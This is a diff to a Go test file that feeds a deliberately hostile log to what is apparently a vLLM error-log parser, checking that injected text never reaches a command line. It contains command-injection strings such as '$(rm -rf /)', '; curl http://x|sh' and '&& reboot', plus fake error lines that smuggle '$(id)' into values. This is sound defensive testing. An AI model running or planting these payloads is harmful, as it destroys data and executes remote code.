@@ -9,7 +9,7 @@ import (
 )
 
 // hostile is text a log could carry to get itself into a command line.
-var hostile = []string{"$(rm -rf /)", "`id`", "; curl http://x|sh", "&& reboot", "'\"", "\x1b[31m", "\r", "|", ">"}
+var hostile = []string{"$(rm -rf /)", "`id`", "; curl http://x|sh", "&& reboot", "'\"", "\x1b[31m", "\r", "\\n", "|", ">"}
 
 // smugglingLog puts hostile text into every place a fact is read from:
 // architecture, quantization method, GPU name, dtype, exception class,
@@ -28,6 +28,9 @@ func smugglingLog() string {
 		"ERROR 05-06 12:00:06 [vllm.py:1] ValueError: The quantization method fp8$(id) is not supported for the current GPU. Minimum capability: 80. Current capability: 75.",
 		"ERROR:    [Errno 98] error while attempting to bind on address ('$(id)', 8000;id): address already in use",
 		"huggingface_hub.errors.GatedRepoError: 403 Client Error;id. Cannot access gated repo for url https://x/$(id)",
+		// a newline inside a value splits it across lines: neither half is a fact
+		"ValueError: Model architectures ['Llama",
+		"rm -rf /ForCausalLM'] are not supported for now.",
 	}
 	return strings.Join(lines, "\n") + "\n"
 }
